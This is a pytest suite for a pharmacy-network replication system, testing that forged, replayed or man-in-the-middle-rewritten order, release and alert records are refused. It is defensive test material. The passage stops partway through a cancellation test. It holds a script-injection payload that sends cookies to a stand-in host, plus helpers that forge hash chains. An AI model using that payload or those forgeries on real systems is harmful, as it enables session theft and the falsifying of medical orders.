"""Issue 17, attacked: orders handed over to the sites, site nodes' records claiming to be
the control's decisions, and site alerts sent to the control (docs/replication.md, "Orders
handed over to the sites", "Custody alerts across the network", "Every decision the control
sends is signed").

Each test is one attacker (or one accident an attacker would use): a hand-over body edited,
replayed or colliding with what the site holds; a tampered site node writing records of its
own making; a man in the middle re-hashing records on the broker. Two real nodes, each its
own SQLite copy of the seeded network (test_replication_mqtt.nodes). Expected values are read
from the site's and control's own tables, never from what the code under test returns."""

from __future__ import annotations

import copy
import hashlib
import json
from collections.abc import Callable
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from tests import flow_helpers as fh
from tests.quality.release_helpers import register_release, token
from tests.quality.test_exceptional_release import OutOfSpecRelease
from tests.replication.test_alert_records import close, raise_and_follow, shown_at_control
from tests.replication.test_order_handover import (
    adjust_at_control,
    cancel_at_control,
    cancellation_outcomes,
    cancellation_row,
    handover_row,
    order_columns,
    take,
    waiting_rows,
    with_dose_rule,
)
from tests.replication.test_release_across import (
    applied_rows,
    decide,
    deliver,
    pack_statuses,
    releases_of,
    signature_row,
    unsent,
)
from tests.replication.test_release_attacks import (
    canonical,
    deliver_tampered,
    outcomes,
    physician_asks,
    remote_decisions,
    request_status,
    send,
    send_forged,
    shown,
    signatures_at,
)
from tests.replication.test_replication_mqtt import nodes, nodes_world, repl
from tests.replication.test_site_node_work import order_for

from nearfab.bootstrap import App
from nearfab.common.canonical import canonical_json
from nearfab.common.errors import Refused, ValidationFailed
from nearfab.identity import AuditAction, AuditEntry, audit, system_actor
from nearfab.identity import record_hash as hash_of_record
from nearfab.orders.models import (
    Order,
    Patient,
    PatientIdentifierHash,
    PatientIdentity,
    Prescription,
)
from nearfab.quality.models import ExceptionalRelease
from nearfab.replication import site_alerts
from nearfab.replication.logic import Record, record_hash, record_id
from nearfab.replication.models import InboxRecord
from nearfab.web.server import create_web_app

__all__ = ["nodes"]


def handover_outcomes(site: App, order_id: str) -> list[tuple[str, str]]:
    """The site's applied rows about the hand-over of `order_id`: (action, outcome)."""
    return [
        (r.action, str((r.new or {}).get("outcome")))
        for r in applied_rows(site, None)
        if (r.new or {}).get("order_id") == order_id
    ]


def count(app: App, model: Any) -> int:
    with app.uow() as uow:
        return int(uow.session.scalar(select(func.count()).select_from(model)) or 0)


def patient_of(app: App, order_id: str) -> Patient:
    with app.uow() as uow:
        order = uow.session.get(Order, order_id)
        assert order is not None
        patient = uow.session.get(Patient, order.patient_id)
        assert patient is not None
        uow.session.expunge(patient)
        return patient


# --- the same prescription at both ends ---------------------------------------------------------


def test_a_prescription_sent_to_the_site_and_to_the_control_is_refused_on_record_and_blocks_nothing(
    nodes: tuple[App, App],
) -> None:
    """The prescriber sends one prescription to St Thomas' and to the central intake: the site
    takes it (its own order), the control takes it for St Thomas' and hands it over. Stored as
    it came, it would break the site's unique prescription identifier (patient, system, value,
    resubmission: migration 0013) mid-write, and the pass would fail for ever, every later
    control record (a recall) waiting behind it. It must be refused on record, naming the
    field, and the next hand-over taken."""
    site, control = nodes
    bundle = fh.bundle(control)
    (rx,) = [e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] != "Patient"]
    rx["identifier"] = [{"system": "https://gstt.example/prescriptions", "value": "RX-4711"}]
    with site.uow() as uow:
        (at_site,) = site.orders.submit(uow, system_actor("prescriber"), bundle, site_id="GSTT-PH")
    with control.uow() as uow:
        (at_control,) = control.orders.submit(
            uow, system_actor("prescriber"), bundle, site_id="GSTT-PH"
        )
    assert at_control.id != at_site.id
    deliver(control, site)  # no exception: the pass completes
    assert order_columns(site, at_control.id) is None
    ((action, outcome),) = handover_outcomes(site, at_control.id)
    assert action == "refuse"
    assert outcome.startswith("not applied here: prescription.identifier_value: ")
    assert at_site.id in outcome  # names the order the site holds for it
    # and the pipeline is not stuck: the next order handed over is taken
    following = order_for(control, "GSTT-PH")
    deliver(control, site)
    assert order_columns(site, following) is not None
    assert handover_outcomes(site, following) == [("create", "taken here")]


# --- ids the site holds already -----------------------------------------------------------------


def test_an_order_id_held_here_as_another_order_is_refused_not_silently_dropped(
    nodes: tuple[App, App],
) -> None:
    """A hand-over whose order id is one the site holds for another prescription: before, the
    site answered "held here already" and wrote nothing, so the control's order was never made
    and nobody knew. Refused, naming `order.id`."""
    site, control = nodes
    mine = order_for(site, "GSTT-PH")
    body = handover_row(control, order_for(control, "GSTT-PH"))
    colliding = copy.deepcopy(body)
    colliding["order"]["id"] = colliding["order_id"] = mine
    with pytest.raises(Refused) as taken:
        take(site, colliding)
    assert (taken.value.code, taken.value.field) == ("order_id_taken", "order.id")
    # the real order, taken; handed over again it is "held here already" (a redelivery)
    with site.uow() as uow:
        _, now = site.orders.take_handed_over(
            uow, system_actor("replication"), body, site_id=repl(site).site_id, note="test"
        )
        uow.commit()
    assert now
    with site.uow() as uow:
        _, again = site.orders.take_handed_over(
            uow, system_actor("replication"), body, site_id=repl(site).site_id, note="test"
        )
    assert not again
    assert order_columns(site, body["order_id"]) == order_columns(control, body["order_id"])


def test_a_patient_or_prescription_id_held_here_as_another_is_refused_before_writing(
    nodes: tuple[App, App],
) -> None:
    """Ids and the pseudonym colliding with rows the site holds (another patient's id, another
    patient's `PT-` reference, a prescription id held): each would break a primary key or a
    unique column mid-write (an IntegrityError, not a refusal: the pass fails for ever).
    Refused first, naming the field; nothing written."""
    site, control = nodes
    theirs = patient_of(site, order_for(site, "GSTT-PH"))
    with site.uow() as uow:
        held_rx = uow.session.scalars(select(Prescription.id)).first()
    body = handover_row(control, order_for(control, "GSTT-PH"))
    before = (count(site, Patient), count(site, Prescription), count(site, Order))

    same_id = copy.deepcopy(body)
    same_id["patient"]["id"] = same_id["order"]["patient_id"] = theirs.id
    same_id["prescription"]["patient_id"] = same_id["identity"]["patient_id"] = theirs.id
    for h in same_id["identifier_hashes"]:
        h["patient_id"] = theirs.id
    with pytest.raises(Refused) as by_id:
        take(site, same_id)
    assert (by_id.value.code, by_id.value.field) == ("patient_id_taken", "patient.id")

    same_ref = copy.deepcopy(body)
    same_ref["patient"]["ref"] = theirs.ref
    with pytest.raises(Refused) as by_ref:
        take(site, same_ref)
    assert (by_ref.value.code, by_ref.value.field) == ("patient_ref_taken", "patient.ref")

    same_rx = copy.deepcopy(body)
    same_rx["prescription"]["id"] = same_rx["order"]["prescription_id"] = held_rx
    for h in same_rx["identifier_hashes"]:
        if h["prescription_id"] is not None:
            h["prescription_id"] = held_rx
    with pytest.raises(Refused) as by_rx:
        take(site, same_rx)
    assert (by_rx.value.code, by_rx.value.field) == ("prescription_held", "prescription.id")

    with site.uow() as uow:
        held_hash = uow.session.scalars(select(PatientIdentifierHash.id)).first()
    same_hash = copy.deepcopy(body)
    same_hash["identifier_hashes"][0]["id"] = held_hash
    with pytest.raises(Refused) as by_hash:
        take(site, same_hash)
    assert (by_hash.value.code, by_hash.value.field) == ("hash_held", "identifier_hashes[0].id")
    assert (count(site, Patient), count(site, Prescription), count(site, Order)) == before


# --- rows of another patient --------------------------------------------------------------------


def test_identifier_hashes_or_a_prescription_of_another_patient_are_refused(
    nodes: tuple[App, App],
) -> None:
    """Identifier hashes carrying another patient's id were silently re-pointed at the order's
    patient (so a wristband or NHS-number hash of patient B would identify patient A at the
    bedside); a hash of another prescription likewise. A prescription naming another patient
    than the order's was refused naming `patient.id`: now its own field."""
    site, control = nodes
    other = patient_of(site, order_for(site, "GSTT-PH"))
    body = handover_row(control, order_for(control, "GSTT-PH"))
    assert body["identifier_hashes"], "the seeded bundle carries identifiers"

    hijack = copy.deepcopy(body)
    hijack["identifier_hashes"][0]["patient_id"] = other.id
    with pytest.raises(ValidationFailed) as by_patient:
        take(site, hijack)
    assert by_patient.value.field == "identifier_hashes[0].patient_id"

    foreign_rx = copy.deepcopy(body)
    foreign_rx["identifier_hashes"][0]["prescription_id"] = "rx_not_this_one"
    with pytest.raises(ValidationFailed) as by_rx:
        take(site, foreign_rx)
    assert by_rx.value.field == "identifier_hashes[0].prescription_id"

    rx_of_other = copy.deepcopy(body)
    rx_of_other["prescription"]["patient_id"] = other.id
    with pytest.raises(ValidationFailed) as named:
        take(site, rx_of_other)
    assert named.value.field == "prescription.patient_id"
    assert order_columns(site, body["order_id"]) is None


def test_a_patient_with_a_look_up_hash_held_here_gets_the_order_and_keeps_its_identity(
    nodes: tuple[App, App],
) -> None:
    """By design: the keyed look-up hash (HMAC of the patient's business identifiers under the
    network's key) is what makes two records one patient, at intake as at a hand-over. A body
    naming the look-up hash of a patient held here attaches the order to that patient; it does
    not replace their encrypted identity, pseudonym or birth-date hash, and makes no second
    patient. (Only the control, whose signature the site needs, can send one.)"""
    site, control = nodes
    held = patient_of(site, order_for(site, "GSTT-PH"))
    with site.uow() as uow:
        identity = uow.session.get(PatientIdentity, held.id)
        assert identity is not None
        cipher_before = identity.ciphertext
    body = handover_row(control, order_for(control, "GSTT-PH"))
    same_person = copy.deepcopy(body)
    same_person["patient"]["lookup_hash"] = held.lookup_hash
    patients = count(site, Patient)
    with site.uow() as uow:
        site.orders.take_handed_over(
            uow, system_actor("replication"), same_person, site_id=repl(site).site_id, note="t"
        )
        uow.commit()
    assert count(site, Patient) == patients
    with site.uow() as uow:
        order = uow.session.get(Order, body["order_id"])
        identity = uow.session.get(PatientIdentity, held.id)
        assert order is not None and identity is not None
        assert order.patient_id == held.id
        assert identity.ciphertext == cipher_before
        assert uow.session.get(Patient, body["patient"]["id"]) is None


# --- whose order ----------------------------------------------------------------------------------


def test_a_body_whose_two_site_ids_disagree_is_refused_either_way(nodes: tuple[App, App]) -> None:
    """By design: the record's `site_id` (which node acts on it) and the order's own must both
    be this site's. Either one naming Manchester is refused `another_site`."""
    site, control = nodes
    body = handover_row(control, order_for(control, "GSTT-PH"))
    manchester = fh.site_id(site, "MAN-PH")
    for where in ("top", "order"):
        forged = copy.deepcopy(body)
        if where == "top":
            forged["site_id"] = manchester
        else:
            forged["order"]["site_id"] = manchester
        with pytest.raises(Refused) as refused:
            take(site, forged)
        assert (refused.value.code, refused.value.field) == ("another_site", "site_id")
    assert order_columns(site, body["order_id"]) is None


# --- a tampered site node -------------------------------------------------------------------------


def test_a_site_nodes_records_claiming_control_decisions_are_neither_acted_on_nor_relayed(
    nodes: tuple[App, App],
) -> None:
    """St Thomas' node, tampered with, writes in its own outbox an `order_handover` (of a real
    body the control made) and a recall, as the control would. The control acts on no site's
    record (it is no site node) and sends none of them on: its outbox holds its own records
    only, so no other site ever receives them as the control's."""
    site, control = nodes
    body = handover_row(control, order_for(control, "GSTT-PH"))
    deliver(control, site)  # the control's own records gone; what follows is the site's
    forged_order = copy.deepcopy(body)
    forged_order["order"]["id"] = forged_order["order_id"] = "ord_forged_by_site"
    with site.uow() as uow:
        actor = system_actor("replication")
        audit(uow, actor, AuditAction.CREATE, "order_handover", "ord_forged_by_site",
              new=forged_order, reason="forged", site_id=repl(site).site_id)  # fmt: skip
        audit(uow, actor, AuditAction.CREATE, "recall", "rcl_forged",
              new={"lot": "ANY-LOT"}, reason="forged", site_id=repl(site).site_id)  # fmt: skip
        uow.commit()
    deliver(site, control)
    with control.uow() as uow:
        assert uow.session.get(Order, "ord_forged_by_site") is None
    assert {r.origin_site for r in unsent(control)} <= {repl(control).site_id}


# --- site alerts ----------------------------------------------------------------------------------


def test_a_malformed_alert_record_does_not_break_the_controls_list(
    nodes: tuple[App, App],
) -> None:
    """A site node (or the broker, re-hashing) sends an `alert` record with its fields stripped:
    the control's list answered 500 (a KeyError) for every reader, hiding every site's alerts.
    The record is not shown; the alert's newest well-formed state still is."""
    site, control = nodes
    alert_id = raise_and_follow(site)
    deliver(site, control)  # the raised and acknowledged states, well-formed
    close(site, alert_id, "pack_recovered", "pack recovered")

    def strip(wire: dict[str, Any]) -> None:
        if wire["kind"] == "alert":
            wire["payload"] = canonical({"site_id": wire["origin_site"]}).decode()

    deliver_tampered(site, control, strip)
    with control.uow() as uow:
        held = [
            json.loads(r.payload)
            for r in uow.session.scalars(select(InboxRecord).where(InboxRecord.kind == "alert"))
        ]
    assert {"site_id": repl(site).site_id} in held  # the stripped record was taken in
    row = shown_at_control(control, alert_id)
    assert row is not None and row["status"] == "acknowledged"  # the last well-formed state
    api = TestClient(create_web_app(control))
    listed = api.get("/api/v1/custody/site-alerts", headers=token(control, "qp"))
    assert listed.status_code == 200
    assert [r["status"] for r in listed.json() if r["alert_id"] == alert_id] == ["acknowledged"]


# --- the control's signed entry, reused ---------------------------------------------------------


def forge_control_row(site: App, control: App, **row: Any) -> None:
    """Whoever can publish on the control's topic appends an audit row of its making to the
    control's chain as the site holds it: the audit row's own hash and link, the record's
    hash and link, all recomputed (plain SHA-256, docs/replication.md "Signatures"), then
    stored by the site's inbox and acted on as a pass does. What it cannot make is the
    control's Ed25519 signature."""
    origin = repl(control).site_id
    with site.uow() as uow:
        held = list(
            uow.session.scalars(
                select(InboxRecord)
                .where(InboxRecord.origin_site == origin)
                .order_by(InboxRecord.seq)
            )
        )
    last = held[-1]
    audits = [json.loads(r.payload) for r in held if r.kind == "audit"]
    top = max(audits, key=lambda a: int(a["seq"]))
    content = {
        **{k: v for k, v in top.items() if k != "row_hash"},
        **row,
        "seq": int(top["seq"]) + 1,
        "prev_hash": top["row_hash"],
    }
    audit_row = {**content, "row_hash": hashlib.sha256(canonical(content)).hexdigest()}
    ref = f"audit:{content['seq']}"
    fields: dict[str, Any] = {
        "id": record_id(origin, ref),
        "origin_site": origin,
        "seq": last.seq + 1,
        "kind": "audit",
        "source_ref": ref,
        "chain_hash": audit_row["row_hash"],
        "prev_hash": last.record_hash,
        "payload": canonical(audit_row).decode(),
    }
    forged = Record(
        **fields, record_hash=record_hash(**fields), created_at=last.created_at.isoformat()
    )
    with site.uow() as uow:
        repl(site).apply(uow, [forged.to_message()])
    with site.uow() as uow:
        statuses = {s.origin_site: s for s in repl(site).inbox_status(uow)}
    st = statuses[origin]
    assert not (st.forks or st.altered or st.chain_problems), st  # it passes as the control's
    decisions = repl(site).decisions
    assert decisions is not None
    decisions.apply_pending(site.uow)


def test_the_controls_signed_entry_for_one_order_does_not_carry_another_body_or_ref(
    nodes: tuple[App, App],
) -> None:
    """Order X handed over and signed (ref `order_handover:X`, the SHA-256 of its body). On
    the broker, a well-chained audit row carrying: X's ref with another body (more units, and
    another order id); another ref (order Z) with X's very body; X's body and ref again (a
    replay). None is acted on without the control's signature naming it: the first two wait
    for ever, nothing written; the replay finds the order held and writes nothing."""
    site, control = nodes
    x = order_for(control, "GSTT-PH")
    deliver(control, site)
    assert handover_outcomes(site, x) == [("create", "taken here")]
    body = handover_row(control, x)
    base = {"entity_type": "order_handover", "action": "create", "reason": "forged"}

    more = copy.deepcopy(body)
    more["order"]["units"] = int(more["order"]["units"]) * 10
    more["order"]["id"] = more["order_id"] = "ord_FORGEDBODY01"
    forge_control_row(site, control, **base, entity_id=x, new=more)
    assert order_columns(site, "ord_FORGEDBODY01") is None

    forge_control_row(site, control, **base, entity_id="ord_FORGEDREF001", new=body)
    forge_control_row(site, control, **base, entity_id=x, new=body)  # the replay
    assert handover_outcomes(site, x) == [("create", "taken here")]  # still the one row
    assert handover_outcomes(site, "ord_FORGEDREF001") == []
    assert order_columns(site, x) == order_columns(control, x)  # units as the control took
    with site.uow() as uow:
        refused = uow.session.scalars(
            select(AuditEntry).where(AuditEntry.entity_type == "replication_refused")
        ).all()
    assert refused == []  # waiting, not refused: the chain verifies, the signature is missing


# --- exceptional release across the network -------------------------------------------------------


def test_an_exceptional_release_on_an_older_dossier_or_a_request_closed_since_is_not_applied(
    nodes: tuple[App, App],
) -> None:
    """Two ways around the physician's request. (1) The QP signs an exceptional release on the
    dossier sent before the request (its shown hash): refused `record_changed` at the control,
    nothing signed. (2) The request is closed at the site after the QP signed the exceptional
    release on the newest dossier: the site needs it still pending (as a local exceptional
    release does), so nothing is released there and the refusal is on record, once. By
    design: the request is checked at the site, at the moment the decision is recorded."""
    site, control = nodes
    for app in (site, control):
        register_release(app, OutOfSpecRelease())
    batch_id = fh.make_batch(site)
    send(site)
    deliver(site, control)
    before_request = shown(control, batch_id)
    physician_asks(site, batch_id)
    send(site)
    deliver(site, control)
    newest = shown(control, batch_id)
    assert newest != before_request  # the request is part of the content
    signed_before = signatures_at(control)
    with pytest.raises(Refused) as stale:
        decide(control, batch_id, exceptional=True, reason="no time", shown_hash=before_request)
    assert stale.value.code == "record_changed"
    assert signatures_at(control) == signed_before

    decide(control, batch_id, exceptional=True, reason="no time", shown_hash=newest)
    with site.uow() as uow:  # meanwhile, at the site, the request is closed
        row = uow.session.scalar(
            select(ExceptionalRelease).where(ExceptionalRelease.batch_id == batch_id)
        )
        assert row is not None
        site.quality.exceptional.closed(
            uow, system_actor("physician"), row, "the physician withdrew the request"
        )
        uow.commit()
    deliver(control, site)
    deliver(control, site)
    assert fh.batch(site, batch_id).status == "completed"
    assert pack_statuses(site, batch_id) == {"quarantine"}
    ((action, outcome),) = outcomes(site, batch_id)
    assert action == "refuse" and outcome.startswith("not applied here: no signed request")
    (decision,) = remote_decisions(control, batch_id)
    assert decision.new is not None
    assert signature_row(site, decision.new["signature"]["id"]) is None  # nothing half-written
    assert request_status(site, batch_id) == "closed"


def deliver_rechained(src: App, dst: App, edit: Callable[[str, dict[str, Any]], None]) -> None:
    """A man in the middle who rewrites `src`'s unsent records consistently: `edit` changes
    a record's payload (kind, payload) in place; each audit row's own hash is recomputed and
    the next row relinked to it, each summary's carried hash follows, and each record is
    re-hashed and relinked (all plain SHA-256). Only ledger signatures stop such a rewrite."""
    records = unsent(src)
    remap: dict[str, str] = {}  # audit row hash as sent -> as rewritten
    prev = records[0].prev_hash
    messages = []
    for r in records:
        wire = json.loads(r.to_message())
        payload = json.loads(wire["payload"])
        if wire["kind"] == "audit":
            payload["prev_hash"] = remap.get(payload["prev_hash"], payload["prev_hash"])
            edit(wire["kind"], payload)
            content = {k: v for k, v in payload.items() if k != "row_hash"}
            new_hash = hashlib.sha256(canonical_json(content)).hexdigest()
            remap[payload["row_hash"]] = new_hash
            payload["row_hash"] = wire["chain_hash"] = new_hash
        else:
            wire["chain_hash"] = remap.get(wire["chain_hash"], wire["chain_hash"])
            edit(wire["kind"], payload)
        wire["payload"] = canonical_json(payload).decode()
        wire["prev_hash"] = prev
        fields = {k: v for k, v in wire.items() if k not in ("record_hash", "created_at")}
        wire["record_hash"] = prev = hashlib.sha256(canonical(fields)).hexdigest()
        messages.append(canonical(wire))
    with dst.uow() as uow:
        repl(dst).apply(uow, messages)
    with src.uow() as uow:
        ids = [r.id for r in records]
        repl(src).mark_published(uow, ids, ids)


def out_of_spec_nobody_asked(site: App, control: App) -> tuple[str, dict[str, Any]]:
    """Two out-of-specification batches at the site: one whose physician asked for its
    release (its dossier held at the control), one nobody asked for (its dossier sent, not
    delivered). The second's id and the first's request as the control holds it."""
    for app in (site, control):
        register_release(app, OutOfSpecRelease())
    asked = fh.make_batch(site)
    physician_asks(site, asked)
    send(site)
    deliver(site, control)
    with control.uow() as uow:
        request = releases_of(control).newest(uow, asked).dossier["content"]["exceptional"]
    nobody_asked = fh.make_batch(site)
    send(site)
    return nobody_asked, request


def test_a_dossier_rewritten_consistently_on_the_broker_is_not_signed_at_the_control(
    nodes: tuple[App, App],
) -> None:
    """The hardest dossier forgery: an out-of-specification batch nobody asked to release;
    on the broker, its dossier (the audit row that sends it and the dossier record) is given
    a physician's request copied from another dossier, every plain hash after it recomputed
    and relinked, so the chain of records verifies, the dossier is its row's `new` and its
    content hashes to its shown hash. The site signed the SHA-256 of the dossier it sent in
    its ledger chain, with a key the man in the middle does not hold: the control's QP is
    refused (`dossier_not_verified`), nothing is signed, and the refusal is on record."""
    site, control = nodes
    nobody_asked, request = out_of_spec_nobody_asked(site, control)

    def inject(content: dict[str, Any]) -> str:
        content["exceptional"] = {**request, "batch_id": nobody_asked}
        return hash_of_record(content)

    def add_request(kind: str, payload: dict[str, Any]) -> None:
        if kind == "audit" and payload.get("entity_type") == "release_dossier":
            if payload["entity_id"] == nobody_asked:
                payload["new"]["shown_hash"] = inject(payload["new"]["content"])
        elif kind == "dossier" and payload.get("batch_id") == nobody_asked:
            payload["shown_hash"] = inject(payload["content"])

    deliver_rechained(site, control, add_request)
    with control.uow() as uow:
        status = {s.origin_site: s for s in repl(control).inbox_status(uow)}[repl(site).site_id]
    assert not (status.forks or status.altered or status.chain_problems), status
    before = signatures_at(control)
    with pytest.raises(Refused) as refused:
        decide(
            control,
            nobody_asked,
            exceptional=True,
            reason="asked",
            shown_hash=shown(control, nobody_asked),
        )
    assert (refused.value.code, refused.value.field) == ("dossier_not_verified", "dossier")
    assert "ledger chain signing this dossier is not held" in str(refused.value)
    fh.assert_refusal_audited(control, refused.value, "batch", nobody_asked)
    assert signatures_at(control) == before and remote_decisions(control, nobody_asked) == []


def test_a_request_forged_by_a_tampered_site_node_is_stopped_at_the_site(
    nodes: tuple[App, App],
) -> None:
    """The same request injected by the site node itself (tampered with: it holds its key, so
    it signs the forged dossier and the control's QP, shown the request, signs an exceptional
    release). What stops it is the site's own check of the QP's signature against its own
    record and its own request: nothing released, the refusal on record."""
    site, control = nodes
    nobody_asked, request = out_of_spec_nobody_asked(site, control)
    deliver(site, control)  # the real dossier, no request
    with site.uow() as uow:
        real = site.quality.remote.dossier(uow, nobody_asked)
    content = {**real["content"], "exceptional": {**request, "batch_id": nobody_asked}}
    send_forged(site, nobody_asked, content=content, shown_hash=hash_of_record(content))
    deliver(site, control)
    decide(
        control,
        nobody_asked,
        exceptional=True,
        reason="asked",
        shown_hash=shown(control, nobody_asked),
    )
    deliver(control, site)
    assert fh.batch(site, nobody_asked).status == "completed"
    assert pack_statuses(site, nobody_asked) == {"quarantine"}
    ((action, outcome),) = outcomes(site, nobody_asked)
    assert action == "refuse" and outcome.startswith("not applied here: no signed request")


def test_an_order_to_another_version_of_the_code_than_the_one_effective_here_is_refused(
    nodes: tuple[App, App],
) -> None:
    """By design: the site makes an order only to the version of its code effective there. A
    body naming another version of the code (the superseded one, as the site holds the new)
    is refused `master_file_not_effective`, naming `order.master_file_id`."""
    site, control = nodes
    body = handover_row(control, order_for(control, "GSTT-PH"))
    older = copy.deepcopy(body)
    older["order"]["master_file_id"] = "mf_superseded_version"
    older["order"]["master_file_version"] = int(older["order"]["master_file_version"]) - 1
    with pytest.raises(Refused) as refused:
        take(site, older)
    assert (refused.value.code, refused.value.field) == (
        "master_file_not_effective",
        "order.master_file_id",
    )
    assert order_columns(site, body["order_id"]) is None


XSS = '<script>document.location="https://evil.example/?"+document.cookie</script>'


def test_alert_records_about_another_sites_alert_or_carrying_markup_are_harmless(
    nodes: tuple[App, App],
) -> None:
    """St Thomas' node, tampered with (or the broker), sends its alert's first state as
    Manchester's alert, and its second with markup in the message, the pack serial and the
    alert id. By design: a record about another site's alert than its sender's is shown to
    nobody (not to Manchester's reader either), and the control's page escapes what a site
    sends; the API hands it back as data."""
    site, control = nodes
    alert_id = raise_and_follow(site)
    manchester = fh.site_id(site, "MAN-PH")
    seen: list[str] = []

    def forge(wire: dict[str, Any]) -> None:
        if wire["kind"] != "alert":
            return
        payload = json.loads(wire["payload"])
        if not seen:
            payload["site_id"] = manchester
        else:
            payload.update(message=XSS, serial=XSS, alert_id=f'{alert_id}"><b>x</b>')
        seen.append(wire["id"])
        wire["payload"] = canonical(payload).decode()

    deliver_tampered(site, control, forge)
    assert len(seen) == 2
    fh.site_user(control, "ph-man", "pharmacist", "MAN-PH")
    with control.uow() as uow:
        for reader in ("qp", "ph-man"):
            rows = site_alerts(uow, fh.actor(control, reader))
            assert all(r["site_id"] != manchester for r in rows)
    (marked,) = [r for r in site_alerts_of(control) if r["alert_id"].startswith(alert_id)]
    assert marked["message"] == XSS
    page = fh.web_login(control, "qp").get("/custody/alerts")
    assert page.status_code == 200
    assert "<script>document.location" not in page.text
    assert "&lt;script&gt;document.location" in page.text
    assert '"><b>x</b>' not in page.text


def site_alerts_of(control: App) -> list[dict[str, Any]]:
    with control.uow() as uow:
        return site_alerts(uow, fh.actor(control, "qp"))


def test_extra_columns_in_a_handover_are_ignored_and_the_sites_lock_starts_again(
    nodes: tuple[App, App],
) -> None:
    """By design: only the model's columns are read (`_load`); a key the order table does not
    have, or the control's `row_version`, changes nothing at the site."""
    site, control = nodes
    body = handover_row(control, order_for(control, "GSTT-PH"))
    extra = copy.deepcopy(body)
    extra["order"].update(row_version=999, qp_released=True, status_note="released")
    extra["patient"]["is_admin"] = True
    with site.uow() as uow:
        site.orders.take_handed_over(
            uow, system_actor("replication"), extra, site_id=repl(site).site_id, note="t"
        )
        uow.commit()
    held = order_columns(site, body["order_id"])
    assert held == order_columns(control, body["order_id"])
    with site.uow() as uow:
        order = uow.session.get(Order, body["order_id"])
        assert order is not None and order.row_version != 999
        assert not hasattr(order, "qp_released")


# --- a new version of an order handed over (a dose adjusted at the control) ---------------------


def version_at_site(site: App, control: App) -> tuple[str, str, dict[str, Any]]:
    """An order handed over to St Thomas', its dose adjusted at the control and the new version
    taken at the site: (first id, second id, the second's hand-over body)."""
    with_dose_rule(site, control)
    first = order_for(control, "GSTT-PH")
    deliver(control, site)
    second = adjust_at_control(control, first)
    deliver(control, site)
    assert handover_outcomes(site, second) == [("create", "taken here")]
    return first, second, handover_row(control, second)


#: (site, control, `version_at_site`'s ids and body): built once per worker, each test its own
#: copy of both nodes (`nodes_world`)
versioned = nodes_world(version_at_site)


def test_a_replayed_or_older_version_of_an_order_changes_nothing(
    versioned: tuple[App, App, tuple[str, str, dict[str, Any]]],
) -> None:
    """The control's signed version 2 replayed in a well-chained forged row finds it held and
    writes nothing; a body of version 2 (or 1) under an order id the site does not hold,
    while the site holds version 2, is refused `older_version`, nothing written: a replay
    cannot bring the old dose back."""
    site, control, (first, second, body) = versioned
    before = (order_columns(site, first), order_columns(site, second))
    base = {"entity_type": "order_handover", "action": "create", "reason": "forged"}
    forge_control_row(site, control, **base, entity_id=second, new=body)  # the replay
    assert handover_outcomes(site, second) == [("create", "taken here")]  # still the one row
    for version in (2, 1):
        older = copy.deepcopy(body)
        older["order"]["id"] = older["order_id"] = f"ord_OLDERVERSION{version}"
        older["order"]["prescription_version"] = version
        with pytest.raises(Refused) as refused:
            take(site, older)
        assert (refused.value.code, refused.value.field) == (
            "older_version",
            "order.prescription_version",
        )
        assert order_columns(site, older["order_id"]) is None
    assert (order_columns(site, first), order_columns(site, second)) == before


def test_a_version_for_another_site_or_of_another_sites_order_is_refused(
    versioned: tuple[App, App, tuple[str, str, dict[str, Any]]],
) -> None:
    """A version naming Manchester is not St Thomas' to take; one naming St Thomas' but
    replacing a Manchester order the site's copy holds is refused naming `order.supersedes`.
    Nothing written, the Manchester order untouched."""
    site, _control, (_first, second, body) = versioned
    manchester = fh.site_id(site, "MAN-PH")
    theirs = order_for(site, "MAN-PH")  # in the site's copy, never its to make
    other = copy.deepcopy(body)
    other["order"]["id"] = other["order_id"] = "ord_OTHERSITEVER1"
    other["order"]["prescription_version"] = 3
    other["order"]["supersedes"] = second
    other["site_id"] = other["order"]["site_id"] = manchester
    with pytest.raises(Refused) as refused:
        take(site, other)
    assert (refused.value.code, refused.value.field) == ("another_site", "site_id")

    stolen = copy.deepcopy(body)
    stolen["order"]["id"] = stolen["order_id"] = "ord_STOLENVERSN1"
    stolen["order"]["supersedes"] = theirs
    before = order_columns(site, theirs)
    with pytest.raises(Refused) as replaces:
        take(site, stolen)
    assert (replaces.value.code, replaces.value.field) == ("another_site", "order.supersedes")
    assert order_columns(site, "ord_OTHERSITEVER1") is None
    assert order_columns(site, "ord_STOLENVERSN1") is None
    assert order_columns(site, theirs) == before


def test_a_forged_unsigned_version_of_an_order_is_never_acted_on(
    versioned: tuple[App, App, tuple[str, str, dict[str, Any]]],
) -> None:
    """A well-chained forged row carrying a version 3 of the order (ten times the dose) that the
    control never signed: it waits for a signature that never comes; nothing written, not
    refused, not even tried (no waiting row), and the site's version 2 stays in force."""
    site, control, (_first, second, body) = versioned
    before = order_columns(site, second)
    forged = copy.deepcopy(body)
    forged["order"]["id"] = forged["order_id"] = "ord_FORGEDVERSN3"
    forged["order"]["supersedes"] = second
    forged["order"]["prescription_version"] = 3
    forged["order"]["dose_value"] = float(forged["order"]["dose_value"]) * 10
    base = {"entity_type": "order_handover", "action": "create", "reason": "forged"}
    forge_control_row(site, control, **base, entity_id="ord_FORGEDVERSN3", new=forged)
    assert order_columns(site, "ord_FORGEDVERSN3") is None
    assert order_columns(site, second) == before
    assert handover_outcomes(site, "ord_FORGEDVERSN3") == []
    assert waiting_rows(site, "ord_FORGEDVERSN3") == []
    with site.uow() as uow:
        refused = uow.session.scalars(
            select(AuditEntry).where(AuditEntry.entity_type == "replication_refused")
        ).all()
    assert refused == []


# --- a handed-over order cancelled at the control -------------------------------------------------


def cancellation_body_for(site: App, order_id: str) -> dict[str, Any]:
    """A cancellation body of the documented format (docs/replication.md), written by hand."""
    return {
        "format": "nearfab-order-cancellation/1",
        "order_id": order_id,
        "site_id": fh.site_id(site, "GSTT-PH"),
        "prescription_version": 1,
        "status": "cancelled",
        "reason": "forged",
        "cancelled_by": "nobody",
        "cancelled_at": None,
    }


CANCEL = {"entity_type": "order_cancellation", "action": "create", "reason": "forged"}


def refused_rows(site: App) -> list[AuditEntry]:
    with site.uow() as uow:
        return list(
            uow.session.scalars(
                select(AuditEntry).where(AuditEntry.entity_type == "replication_refused")
            ).all()
        )


def test_a_cancellation_the_control_did_not_sign_is_never_acted_on(
    nodes: tuple[App, App],
) -> None:
    """Orders X and Y handed over to St Thomas'; the control cancels Y (signed), and the site
    cancels Y. On the broker, well-chained rows carrying: a cancellation of X written by hand;
